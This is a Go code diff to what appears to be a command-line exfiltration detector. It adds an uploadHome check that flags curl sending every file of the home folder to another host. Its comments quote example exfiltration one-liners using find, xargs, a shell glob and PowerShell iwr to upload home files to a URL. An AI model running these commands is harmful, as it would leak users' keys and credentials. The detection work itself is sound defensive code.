@@ -474,6 +474,40 @@ func (a *analyzer) archiveHolds(paths []string) string {
 	return holds
 }
 
+// curlFiles returns the files curl sends: -T FILE, -F k=@FILE, --data-binary @FILE.
+func curlFiles(args []string) []string {
+	var files []string
+	for i, x := range args {
+		if (x == "-T" || x == "--upload-file") && i+1 < len(args) {
+			files = append(files, args[i+1])
+		}
+		if j := strings.IndexByte(x, '@'); j >= 0 && (j == 0 || x[j-1] == '=') {
+			f, _, _ := strings.Cut(x[j+1:], ";")
+			files = append(files, f)
+		}
+	}
+	return files
+}
+
+// uploadHome judges curl sending the home folder's files one by one: the home folder fed by
+// a recursive listing (`find ~ -type f | xargs -I{} curl -T {} URL`, find's -exec, a
+// PowerShell `gci ~ -r | % { iwr -InFile $_ }`) or a glob straight in it (`for f in ~/*; do
+// curl -T "$f" URL`): every file leaves, keys and credentials among them, as with scp of the
+// home (exfil/home_to_host; issue 26, det67). A file or folder below the home is judged as
+// before.
+func (a *analyzer) uploadHome(name string, args []string, line string) {
+	if name != "curl" {
+		return
+	}
+	for _, f := range curlFiles(args) {
+		r := path.Clean(a.resolve(f))
+		if homeDir(r) && a.feedRec || homeDir(path.Dir(r)) && strings.ContainsAny(path.Base(r), "*?[") {
+			a.add("exfil/home_to_host", "sends every file of the home folder to another host", line, 0.95)
+			return
+		}
+	}
+}
+
 // uploadArchive judges a network command that sends a file an earlier command on the line
 // archived the home folder or the project into (noteArchive): curl's -T, -F k=@FILE,
 // --data-binary @FILE, scp or rsync of the file to another host.
@@ -484,15 +518,7 @@ func (a *analyzer) uploadArchive(name string, args []string, line string) {
 	var files []string
 	switch name {
 	case "curl":
-		for i, x := range args {
-			if (x == "-T" || x == "--upload-file") && i+1 < len(args) {
-				files = append(files, args[i+1])
-			}
-			if j := strings.IndexByte(x, '@'); j >= 0 && (j == 0 || x[j-1] == '=') {
-				f, _, _ := strings.Cut(x[j+1:], ";")
-				files = append(files, f)
-			}
-		}
+		files = curlFiles(args)
 	case "scp", "rsync":
 		if ops := operands(args); len(ops) >= 2 && remoteOperand(ops[len(ops)-1]) {
 			files = ops[:len(ops)-1]
